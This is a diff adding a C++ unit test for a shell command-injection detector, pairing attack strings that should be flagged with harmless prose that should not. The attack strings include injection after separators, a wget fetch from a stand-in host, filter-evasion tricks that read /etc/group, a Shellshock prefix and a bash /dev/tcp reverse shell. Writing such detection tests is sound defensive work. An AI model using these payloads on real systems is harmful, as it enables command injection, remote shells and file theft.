@@ -1,0 +1,55 @@
+#include "inspect/shell/shell.h"
+
+#include <gtest/gtest.h>
+
+#include <string_view>
+
+namespace onesec::inspect {
+namespace {
+
+std::uint32_t points(std::string_view text) {
+  Reasons out;
+  inspect_shell(text, out);
+  return out.points(Attack::Shell);
+}
+
+TEST(Shell, CommandAfterASeparatorWithArgumentsThatFit) {
+  for (const std::string_view text :
+       {"7; wget http://host.example/a", "7 | tail -n 3 /etc/group", "7 && ping -c 4 10.1.2.3", "x' ; ls -la /srv ; '",
+        "x\" | netstat -an", "a$(uname -a)"}) {
+    EXPECT_GE(points(text), kThreshold) << text;
+  }
+}
+TEST(Shell, WordsThatAreAlsoUtilitiesInProse) {
+  for (const std::string_view text :
+       {"milk; more bread", "who is the cat; find the cat", "red | sort | date", "cat", "top 10; last minute offers",
+        "Q&A; make a date", "find the date of birth", "cats & dogs; at home", "| cat | dog |"}) {
+    EXPECT_LT(points(text), kThreshold) << text;
+  }
+}
+TEST(Shell, NamesHiddenFromFilters) {
+  for (const std::string_view text :
+       {"1;c'a't /etc/group", "1;un\\ame -a", "1;cat$IFS/etc/group", "1;{tac,/etc/group}", "1;/b?n/ta?l /etc/group"}) {
+    EXPECT_GE(points(text), kThreshold) << text;
+  }
+}
+TEST(Shell, ReverseShellsAndShellshock) {
+  EXPECT_GE(points("() { x; }; echo hi"), kThreshold);
+  EXPECT_LT(points("function () { return 1; }"), kThreshold);
+  EXPECT_GE(points("bash -i >& /dev/tcp/10.1.2.3/99 0>&1"), kThreshold);
+  EXPECT_GE(points("python3 -c 'import socket'"), kThreshold);
+  EXPECT_LT(points("python3 is a language; bash is a shell"), kThreshold);
+}
+TEST(Shell, WindowsShells) {
+  EXPECT_GE(points("x & dir c:\\"), kThreshold);
+  EXPECT_GE(points("%COMSPEC% /c ver"), kThreshold);
+  EXPECT_LT(points("100% of it; 50% off"), kThreshold);
+}
+TEST(Shell, UnfinishedQuotesAndVariablesEnd) {
+  for (const std::string_view text : {"${abc", "${abc:x}", "\"$(", "`", "'", "$((", "\"`\"`", "{a,", "$'\\x"})
+    points(text);
+  EXPECT_LT(points("${abc}"), kThreshold);
+}
+
+}  // namespace
+}  // namespace onesec::inspect
